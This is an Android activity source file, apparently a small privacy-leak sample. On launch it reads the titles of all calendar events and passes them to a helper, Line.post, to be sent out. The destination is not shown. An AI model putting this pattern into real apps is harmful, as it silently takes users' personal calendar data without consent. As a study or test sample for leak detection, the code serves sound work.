package org.example.sousveil.send_calendar;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CalendarContract;

/** Posts the titles of calendar entries. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(CalendarContract.Events.CONTENT_URI, null, null, null, null);
        StringBuilder all = new StringBuilder();
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(rows.getColumnIndex("title"))).append('\n');
        }
        Line.post(all.toString().getBytes());
    }
}
